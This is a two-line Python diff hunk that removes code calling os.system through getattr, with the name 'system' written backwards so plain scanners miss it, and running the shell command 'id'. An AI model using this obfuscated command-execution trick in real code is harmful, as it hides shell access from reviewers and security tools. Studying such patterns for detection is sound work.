@@ -1,2 +1,0 @@
-import os
-getattr(os, 'metsys'[::-1])('id')
